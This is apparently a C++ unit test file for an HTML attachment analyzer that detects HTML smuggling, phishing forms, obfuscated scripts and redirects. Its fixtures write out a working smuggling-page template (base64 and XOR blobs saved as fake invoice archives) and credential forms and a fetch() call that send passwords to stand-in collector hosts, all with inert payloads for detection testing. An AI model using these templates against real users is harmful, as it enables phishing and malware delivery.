// The HTML attachment analyzer on generated pages (inert: the "payloads" are short marker
// strings with a file signature in front) and on real pages from the corpora.
#include "analyzers/html/html.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>

#include "analyzers/text_scan.h"
#include "core/hash.h"
#include "support/test_support.h"

namespace kagami::analyzers {
namespace {

struct Scanned {
    Limits limits;
    Context ctx{limits, {}};
    HtmlAnalyzer analyzer;
    Output out{analyzer.name(), "page.html", ctx};
    explicit Scanned(std::string_view bytes) {
        analyzer.analyze({bytes, "page.html", "page.html", 0}, out);
    }
    std::vector<std::string> facts(std::string_view name) {
        std::vector<std::string> v;
        for (const auto& f : out.facts())
            if (f.name == name) v.push_back(f.value);
        return v;
    }
    bool has_fact(std::string_view name, std::string_view value) {
        auto v = facts(name);
        return std::find(v.begin(), v.end(), value) != v.end();
    }
    bool has_fact_containing(std::string_view name, std::string_view part) {
        auto v = facts(name);
        return std::any_of(v.begin(), v.end(),
                           [&](const std::string& s) { return s.find(part) != std::string::npos; });
    }
    const Finding* finding(std::string_view id) {
        for (const auto& f : out.findings())
            if (f.id == id) return &f;
        return nullptr;
    }
};

std::string base64(std::string_view in) {
    static constexpr char kAlphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    std::size_t i = 0;
    for (; i + 2 < in.size(); i += 3) {
        unsigned v =
            (unsigned char)in[i] << 16 | (unsigned char)in[i + 1] << 8 | (unsigned char)in[i + 2];
        for (int k = 18; k >= 0; k -= 6) out += kAlphabet[(v >> k) & 63];
    }
    if (i + 1 == in.size()) {
        unsigned v = (unsigned char)in[i] << 16;
        out += {kAlphabet[(v >> 18) & 63], kAlphabet[(v >> 12) & 63], '=', '='};
    } else if (i + 2 == in.size()) {
        unsigned v = (unsigned char)in[i] << 16 | (unsigned char)in[i + 1] << 8;
        out +=
            {kAlphabet[(v >> 18) & 63], kAlphabet[(v >> 12) & 63], kAlphabet[(v >> 6) & 63], '='};
    }
    return out;
}

// An inert stand-in for a smuggled archive: a ZIP signature and filler text.
std::string inert_payload(std::size_t size) {
    std::string p = "PK\x03\x04";
    while (p.size() < size) p += "inert kagami test payload; ";
    p.resize(size);
    return p;
}

// A classic smuggling page: base64 split into quoted chunks glued with +, a Blob, and the
// IE and anchor-download save paths.
std::string smuggling_page(const std::string& payload) {
    std::string b64 = base64(payload);
    std::string chunks;
    for (std::size_t i = 0; i < b64.size(); i += 76)
        chunks += (i ? " +\n      '" : "'") + b64.substr(i, 76) + "'";
    return "<!DOCTYPE html>\n<html><head><title>Document</title></head><body>\n<script>\n"
           "  var file = 'Invoice_2025.zip';\n"
           "  var data = " +
           chunks +
           ";\n"
           "  var bin = window.atob(data);\n"
           "  var bytes = new Uint8Array(bin.length);\n"
           "  for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i);\n"
           "  var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
           "  if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(blob, "
           "file);\n"
           "  else { var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n"
           "         a.download = file; document.body.appendChild(a); a.click(); }\n"
           "</script></body></html>\n";
}

constexpr std::string_view kNewsletter =
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\">\n"
    "<html><head><meta charset=\"utf-8\"><title>Spring News &amp; Offers</title>\n"
    "<style>td { font-family: Arial; } a:hover { color: red; }</style></head>\n"
    "<body><table width=\"600\"><tr><td>\n"
    "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\" alt=\"logo\">\n"
    "<h1>Hello, reader</h1><p>Our spring collection is here.</p>\n"
    "<a href=\"https://shop.example.com/spring?utm_source=mail\">Shop now</a>\n"
    "<a href=\"https://example.com/unsubscribe?id=123\">Unsubscribe</a>\n"
    "<form action=\"https://example.com/subscribe\" method=\"post\">"
    "<input type=\"email\" name=\"e\" placeholder=\"you@example.com\"><input type=\"submit\">"
    "</form>\n"
    "<img src=\"https://track.example.com/open.gif?id=123\" width=\"1\" height=\"1\">\n"
    "<script>window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);}"
    "</script>\n</td></tr></table></body></html>\n";

TEST(HtmlAnalyzer, SniffsPagesByContent) {
    HtmlAnalyzer a;
    EXPECT_TRUE(a.sniff("<!DOCTYPE html><html></html>"));
    EXPECT_TRUE(a.sniff("\xEF\xBB\xBF\r\n<!-- saved from url=(0014)about:internet -->\n<HTML>"));
    EXPECT_TRUE(a.sniff("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\">"));
    EXPECT_TRUE(a.sniff("<script>var a = 1;</script>"));
    EXPECT_TRUE(a.sniff("<a href=\"data:application/octet-stream;base64,TVo=\">t</a>"));
    EXPECT_TRUE(a.sniff("Your attachment has been downloaded\r\n<html xmlns=\"x\"><body>"));
    EXPECT_TRUE(a.sniff("<hta:application id=\"x\"/>"));
    std::string u16 = "\xFF\xFE";
    for (char c : std::string_view("<html><body>hi</body></html>")) u16 += {c, '\0'};
    EXPECT_TRUE(a.sniff(u16));

    EXPECT_FALSE(a.sniff("Dear team, the report is attached. Regards."));
    EXPECT_FALSE(a.sniff("document.write(\"<html><body>\");\nvar x = 1;\n"));
    EXPECT_FALSE(a.sniff("<?xml version=\"1.0\"?><job id=\"x\"><script language=\"VBScript\">"));
    EXPECT_FALSE(a.sniff("<package><job>"));
    EXPECT_FALSE(a.sniff("a,b,c\n1,2,3\n"));
    EXPECT_FALSE(a.sniff("<!-- never closed"));
    EXPECT_FALSE(a.sniff(""));
}

TEST(HtmlAnalyzer, NewsletterGivesFactsAndStaysQuiet) {
    Scanned r(kNewsletter);
    EXPECT_EQ(r.out.type(), "html");
    EXPECT_EQ(r.facts("html.title"), std::vector<std::string>{"Spring News & Offers"});
    EXPECT_TRUE(r.has_fact("html.link", "https://shop.example.com/spring?utm_source=mail"));
    EXPECT_TRUE(r.has_fact("html.link", "https://track.example.com/open.gif?id=123"));
    EXPECT_TRUE(r.has_fact("html.form_action", "https://example.com/subscribe"));
    EXPECT_EQ(r.facts("html.script"), std::vector<std::string>{"1"});
    EXPECT_TRUE(r.out.findings().empty());
    EXPECT_TRUE(r.out.children().empty());
}

TEST(HtmlAnalyzer, InvoicePageStaysQuiet) {
    Scanned r(
        "<html><head><title>Invoice 2025-0042</title></head><body><table>"
        "<tr><td>Item</td><td>Price</td></tr><tr><td>Consulting</td><td>1,200.00</td></tr>"
        "</table><p>Pay to account 1234-5678. Questions: <a href=\"mailto:billing@example.com"
        "\">billing@example.com</a></p><script src=\"https://cdn.example.com/print.js\">"
        "</script></body></html>");
    EXPECT_TRUE(r.out.findings().empty());
    EXPECT_EQ(r.facts("html.script_src"),
              std::vector<std::string>{"https://cdn.example.com/print.js"});
}

TEST(HtmlAnalyzer, ExtractsBase64SmuggledFile) {
    std::string payload = inert_payload(3000);
    Scanned r(smuggling_page(payload));
    ASSERT_EQ(r.out.children().size(), 1u);
    EXPECT_EQ(r.out.children()[0].name, "Invoice_2025.zip");
    EXPECT_EQ(r.out.children()[0].bytes, payload);
    const Finding* f = r.finding("html.smuggling");
    ASSERT_NE(f, nullptr);
    EXPECT_EQ(f->attack, std::vector<std::string>{"T1027.006"});
    EXPECT_TRUE(r.has_fact_containing("html.smuggled_file", "Invoice_2025.zip (3000 bytes"));
    EXPECT_TRUE(r.has_fact_containing("html.smuggled_file", core::sha256_hex(payload)));
}

TEST(HtmlAnalyzer, JoinsBase64AcrossArraysAndAppends) {
    std::string payload = inert_payload(2000);
    std::string b64 = base64(payload);
    std::string arr = "var parts = [";
    for (std::size_t i = 0; i < b64.size(); i += 100)
        arr += (i ? ",\n\"" : "\"") + b64.substr(i, 100) + "\"";
    arr += "];\n";
    Scanned r("<html><body><script>" + arr +
              "var b = new Blob([Uint8Array.from(atob(parts.join('')), c => c.charCodeAt(0))]);\n"
              "navigator.msSaveBlob(b, 'scan.iso');</script></body></html>");
    ASSERT_EQ(r.out.children().size(), 1u);
    EXPECT_EQ(r.out.children()[0].bytes, payload);
    EXPECT_EQ(r.out.children()[0].name, "scan.iso");

    std::string appended = "var s = '';\n";
    for (std::size_t i = 0; i < b64.size(); i += 200)
        appended += "s += '" + b64.substr(i, 200) + "';\n";
    Scanned r2("<html><body><script>" + appended +
               "var u = URL.createObjectURL(new Blob([atob(s)]));</script></body></html>");
    ASSERT_EQ(r2.out.children().size(), 1u);
    EXPECT_EQ(r2.out.children()[0].bytes, payload);
    EXPECT_EQ(r2.out.children()[0].name, "smuggled.bin");
}

TEST(HtmlAnalyzer, ExtractsCharCodeArrayAndUndoesXor) {
    std::string payload = inert_payload(600);
    std::string codes;
    for (char c : payload) codes += std::to_string(static_cast<unsigned char>(c) ^ 0x2A) + ",";
    codes.pop_back();
    Scanned r(
        "<html><body><a id=\"d\" download=\"report.img\">x</a><script>\n"
        "var k = [" +
        codes +
        "];\n"
        "for (var i = 0; i < k.length; i++) k[i] = k[i] ^ 0x2A;\n"
        "var u = URL.createObjectURL(new Blob([new Uint8Array(k)]));\n"
        "document.getElementById('d').href = u;</script></body></html>");
    ASSERT_EQ(r.out.children().size(), 1u);
    EXPECT_EQ(r.out.children()[0].bytes, payload);
    EXPECT_EQ(r.out.children()[0].name, "report.img");
    EXPECT_TRUE(r.has_fact_containing("html.smuggled_file", "XOR"));
}

TEST(HtmlAnalyzer, ExtractsDataUriDownload) {
    std::string payload = inert_payload(100);
    Scanned r("<html><body><a href=\"data:application/zip;base64," + base64(payload) +
              "\" download=\"statement.zip\">Download statement</a></body></html>");
    ASSERT_EQ(r.out.children().size(), 1u);
    EXPECT_EQ(r.out.children()[0].name, "statement.zip");
    EXPECT_EQ(r.out.children()[0].bytes, payload);
    EXPECT_NE(r.finding("html.smuggling"), nullptr);
}

TEST(HtmlAnalyzer, DecodingWithoutSavingIsNotSmuggling) {
    // A large base64 font decoded with atob but never saved: a page, not a dropper.
    std::string font = base64(inert_payload(4000));
    Scanned r("<html><body><script>var f = '" + font +
              "'; var bin = atob(f); document.fonts.add(new FontFace('x', bin));</script>"
              "</body></html>");
    EXPECT_TRUE(r.out.children().empty());
    EXPECT_EQ(r.finding("html.smuggling"), nullptr);
}

TEST(HtmlAnalyzer, ReportsCredentialFormPostingAway) {
    Scanned r(
        "<html><head><title>Sign in to your account</title></head><body>"
        "<form method=\"post\" action=\"https://collector.example.net/owa/login.php\">"
        "<input type=\"email\" name=\"u\" value=\"taro.yamada@example.co.jp\" readonly>"
        "<input type=\"password\" name=\"p\"><button>Sign in</button></form></body></html>");
    const Finding* f = r.finding("html.credential_form");
    ASSERT_NE(f, nullptr);
    EXPECT_EQ(f->evidence, "https://collector.example.net/owa/login.php");
    EXPECT_EQ(f->attack, std::vector<std::string>{"T1566.001"});
    EXPECT_EQ(r.facts("html.prefilled_email"),
              std::vector<std::string>{"taro.yamada@example.co.jp"});
    EXPECT_TRUE(r.has_fact("html.form_password", "https://collector.example.net/owa/login.php"));
}

TEST(HtmlAnalyzer, ReportsPasswordSentByScript) {
    Scanned r(
        "<html><body><div><input id=\"e\" value=\"victim@example.org\">"
        "<input id=\"p\" type=\"password\"><button onclick=\"go()\">Next</button></div>"
        "<script>function go(){ fetch('https://api.example.net/collect', {method:'POST', "
        "body: JSON.stringify({e: e.value, p: p.value})}); }</script></body></html>");
    const Finding* f = r.finding("html.credential_form");
    ASSERT_NE(f, nullptr);
    EXPECT_EQ(f->evidence, "https://api.example.net/collect");
}

TEST(HtmlAnalyzer, LocalPasswordFormIsNotReported) {
    Scanned r(
        "<html><body><form action=\"#\"><input type=\"password\"></form>"
        "<form><input type=password></form></body></html>");
    EXPECT_EQ(r.finding("html.credential_form"), nullptr);
    EXPECT_EQ(r.facts("html.form_password").size(), 2u);
}

TEST(HtmlAnalyzer, DecodesObfuscatedScripts) {
    std::string hidden = "window.location.href='https://phish.example.net/login';";
    Scanned r("<html><body><script>eval(atob('" + base64(hidden) + "'));</script></body></html>");
    EXPECT_TRUE(r.has_fact("html.decoded", hidden));
    const Finding* f = r.finding("html.obfuscated_script");
    ASSERT_NE(f, nullptr);
    EXPECT_EQ(f->attack, std::vector<std::string>{"T1027"});
    EXPECT_TRUE(r.has_fact("html.link", "https://phish.example.net/login"));

    // document.write(unescape(..)) writing a credential form: the written page is read too.
    std::string form = "<form action=\"https://c.example.net/p\"><input type=\"password\"></form>";
    std::string escaped;
    for (char c : form) {
        char buf[4];
        std::snprintf(buf, sizeof buf, "%%%02X", static_cast<unsigned char>(c));
        escaped += buf;
    }
    Scanned w("<html><body><script>document.write(unescape('" + escaped +
              "'));</script></body></html>");
    EXPECT_TRUE(w.has_fact("html.decoded", form));
    EXPECT_NE(w.finding("html.obfuscated_script"), nullptr);
    ASSERT_NE(w.finding("html.credential_form"), nullptr);
    EXPECT_EQ(w.finding("html.credential_form")->evidence, "https://c.example.net/p");
}

TEST(HtmlAnalyzer, ReportsRedirectsAsFacts) {
    Scanned r(
        "<html><head><meta http-equiv=\"refresh\" content=\"0; URL='https://a.example.net/x'\">"
        "</head><body><script>setTimeout(function(){ window.location.replace("
        "\"https://b.example.net/y\"); }, 10); location.href = 'https://c.example.net/z';"
        "</script></body></html>");
    EXPECT_TRUE(r.has_fact("html.redirect", "https://a.example.net/x"));
    EXPECT_TRUE(r.has_fact("html.redirect", "https://b.example.net/y"));
    EXPECT_TRUE(r.has_fact("html.redirect", "https://c.example.net/z"));
    EXPECT_TRUE(r.out.findings().empty());
}

TEST(HtmlAnalyzer, RecognisesHtaApplications) {
    Scanned r(
        "<html><head><HTA:APPLICATION ID=\"app\" APPLICATIONNAME=\"Updater\" "
        "WINDOWSTATE=\"minimize\"><script language=\"VBScript\">Sub Window_OnLoad\r\n"
        "End Sub</script></head></html>");
    EXPECT_EQ(r.out.type(), "hta");
    EXPECT_EQ(r.facts("html.hta"), std::vector<std::string>{"Updater"});
}

TEST(HtmlAnalyzer, ToleratesHostileInput) {
    // Deep nesting, unterminated constructs, invalid UTF-8, UTF-16 without a BOM.
    std::string deep;
    for (int i = 0; i < 100000; ++i) deep += "<div>";
    Scanned d(deep);
    EXPECT_TRUE(d.out.findings().empty());
    Scanned c("<html><!-- never closed <script>eval(atob('QUJD'))</script>");
    EXPECT_NE(c.finding("html.malformed"), nullptr);
    EXPECT_EQ(c.finding("html.obfuscated_script"), nullptr);
    Scanned s("<html><script>var s = 'unterminated; new Blob([atob(");
    EXPECT_NE(s.finding("html.malformed"), nullptr);
    Scanned q("<html><a href=\"https://x.example/never-closed><b>text");
    Scanned bad("<html><title>\xFF\xFE\xC0\x80 bad\x01</title><a href=\"https://x.example/\xFF\">");
    for (const auto& f : bad.out.facts()) {
        EXPECT_TRUE(core::is_valid_utf8(f.value)) << f.name;
        EXPECT_EQ(f.value.find('\x01'), std::string::npos);
    }
    std::string u16;
    for (char ch : std::string_view("<html><title>wide</title></html>")) u16 += {ch, '\0'};
    Scanned w(u16);
    EXPECT_EQ(w.facts("html.title"), std::vector<std::string>{"wide"});
    Scanned lt("<<<<<<<<< < <a <b <!-- <? <! </ >>>>");
}

TEST(HtmlAnalyzer, ExtractsOneMegabyteSingleLineBlob) {
    std::string payload = inert_payload(768u << 10);
    Scanned r(
        "<html><body><script>var d = \"" + base64(payload) +
        "\"; navigator.msSaveOrOpenBlob(new Blob([atob(d)]), 'big.zip');</script></body></html>");
    ASSERT_EQ(r.out.children().size(), 1u);
    EXPECT_EQ(r.out.children()[0].bytes.size(), payload.size());
}

TEST(HtmlAnalyzer, StopsAtTheTagLimit) {
    std::string many;
    many.reserve(3'000'010);
    for (int i = 0; i < 1'000'001; ++i) many += "<b>";
    Scanned r(many);
    EXPECT_NE(r.finding("limit.html.tags"), nullptr);
}

TEST(HtmlAnalyzer, StopsChildrenWhenTheBudgetIsSpent) {
    Limits limits;
    limits.max_total_unpacked_bytes = 1000;
    Context ctx(limits, {});
    HtmlAnalyzer a;
    Output out(a.name(), "x.html", ctx);
    std::string page = smuggling_page(inert_payload(3000));
    a.analyze({page, "x.html", "x.html", 0}, out);
    EXPECT_TRUE(out.children().empty());
    EXPECT_TRUE(std::any_of(out.findings().begin(), out.findings().end(),
                            [](const Finding& f) { return f.id == "limit.artifact.total_bytes"; }));
}

// ClamAV's html container: clam.exe in a data: URI (XOR-obfuscated on disk, see SOURCE.txt).
TEST(HtmlAnalyzer, YieldsClamExeFromClamavHtmlContainer) {
    auto path = test::corpora_dir() / "clamav_unit_test_inputs" / "clamav_hdb_scanfiles" /
                "clam.exe.html.xor";
    std::string data = test::read_file(path);
    if (data.empty()) GTEST_SKIP() << "clamav_unit_test_inputs not available";
    constexpr std::string_view kKey =
        "bhcftqarohcdiayfohalohkgmoefxrrgfnczssgybajvkzjaahpfrlqsratkhhfvpxytculmwgmtyzujlbjlgrh"
        "twxhzpjazlibbwepffyjyfkjwzyofgpopoueurinpdujkphxwhnaxfkaiwrpzdqsnwughtejr";
    ASSERT_EQ(kKey.size(), 160u);
    for (std::size_t i = 0; i < data.size(); ++i) data[i] = char(data[i] ^ kKey[i % kKey.size()]);
    HtmlAnalyzer a;
    ASSERT_TRUE(a.sniff(data));
    Scanned r(data);
    ASSERT_EQ(r.out.children().size(), 1u);
    EXPECT_EQ(core::sha256_hex(r.out.children()[0].bytes),
              "71e7b604d18aefd839e51a39c88df8383bb4c071dc31f87f00a2b5df580d4495");
    EXPECT_NE(r.finding("html.smuggling"), nullptr);
}

TEST(HtmlAnalyzer, ReadsClamavNormaliserInputsQuietly) {
    auto dir = test::corpora_dir() / "clamav_unit_test_inputs" / "htmlnorm_scanfiles";
    if (!std::filesystem::exists(dir)) GTEST_SKIP() << "clamav_unit_test_inputs not available";
    int seen = 0;
    for (const auto& entry : std::filesystem::directory_iterator(dir)) {
        Scanned r(test::read_file(entry.path()));
        ++seen;
        EXPECT_TRUE(r.out.children().empty()) << entry.path();
        EXPECT_EQ(r.finding("html.smuggling"), nullptr) << entry.path();
        EXPECT_EQ(r.finding("html.credential_form"), nullptr) << entry.path();
    }
    EXPECT_EQ(seen, 6);
    // JScript.Encode blocks are decoded (htmlnorm's reference: encode.js.ref).
    Scanned encoded(test::read_file(dir / "htmlnorm_encode.html"));
    EXPECT_TRUE(encoded.has_fact_containing("html.decoded", "function foo(){alert('test@<test>"));
    EXPECT_NE(encoded.finding("html.obfuscated_script"), nullptr);
    Scanned urls(test::read_file(dir / "htmlnorm_urls.html"));
    EXPECT_FALSE(urls.facts("html.form_action").empty());
}

// The MIME part after the header line holding `marker`, base64-decoded.
std::string base64_part(const std::string& eml, std::string_view marker) {
    auto at = eml.find(marker);
    if (at == std::string::npos) return "";
    auto blank = eml.find("\n\r\n", at);
    if (blank == std::string::npos) blank = eml.find("\n\n", at);
    if (blank == std::string::npos) return "";
    auto end = eml.find("\n--", blank);
    return textscan::base64_decode(
        eml.substr(blank, end == std::string::npos ? std::string::npos : end - blank), 1u << 24);
}

TEST(HtmlAnalyzer, ExtractsRealSmuggledScriptFromPhishingPot) {
    auto dir = test::corpora_dir() / "phishing_pot" / "email";
    std::string eml = test::read_file(dir / "sample-432.eml");
    if (eml.empty()) GTEST_SKIP() << "phishing_pot not available";
    std::string page = base64_part(eml, "filename=HlGiLfODLD.html");
    ASSERT_GT(page.size(), 50000u);
    HtmlAnalyzer a;
    ASSERT_TRUE(a.sniff(page));  // text before <html>
    Scanned r(page);
    ASSERT_EQ(r.out.children().size(), 1u);
    EXPECT_EQ(r.out.children()[0].name, "HlGiLfODLD.JS");
    EXPECT_GT(r.out.children()[0].bytes.size(), 30000u);
    EXPECT_NE(r.finding("html.smuggling"), nullptr);

    std::string lure =
        base64_part(test::read_file(dir / "sample-896.eml"), "filename=\"GET Bitcoin 34.html\"");
    ASSERT_TRUE(a.sniff(lure));
    Scanned l(lure);
    EXPECT_TRUE(
        l.has_fact("html.link", "https://get-free-btc.hb.bizmrg.com/index.html#23786447863164"));
    EXPECT_TRUE(l.out.findings().empty());
}

}  // namespace
}  // namespace kagami::analyzers
